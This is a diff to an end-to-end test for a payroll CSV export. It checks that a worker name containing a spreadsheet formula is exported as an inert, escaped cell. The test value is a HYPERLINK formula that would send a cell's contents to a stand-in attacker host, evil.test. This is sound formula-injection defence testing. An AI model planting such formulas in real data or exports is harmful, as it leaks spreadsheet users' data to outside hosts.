@@ -437,8 +437,9 @@ describe('timesheets, corrections and payroll export (e2e, controllable clock)',
       expect(crewRow.worker_name).toBe('Crew member');
       expect(text).not.toMatch(/PLT_/);
 
-      // a name is user input: a formula, a comma, quotes and a line break stay one inert cell
-      const hostile = '=HYPERLINK("http://evil.test/?"&A1,"Pay here"),\r\n@SUM(1)';
+      // a name is user input: a formula, a comma and quotes stay one inert cell (a line break
+      // is refused in a name since; the CSV writer's own spec covers one stored before)
+      const hostile = '=HYPERLINK("http://evil.test/?"&A1,"Pay here"), @SUM(1)';
       const rename = (name: string) =>
         http(t.baseUrl, 'PATCH', `/api/v5/workers/${night.workerId}`, {
           key: t.keys.admin,
@@ -454,7 +455,7 @@ describe('timesheets, corrections and payroll export (e2e, controllable clock)',
         const [row] = parse<Record<string, string>>(raw, { columns: true });
         expect(row.worker_name).toBe(`'${hostile}`);
         expect(raw).toContain(
-          `,"'=HYPERLINK(""http://evil.test/?""&A1,""Pay here""),\r\n@SUM(1)",`,
+          `,"'=HYPERLINK(""http://evil.test/?""&A1,""Pay here""), @SUM(1)",`,
         );
       } finally {
         expect((await rename('Sita Devi')).status).toBe(200);
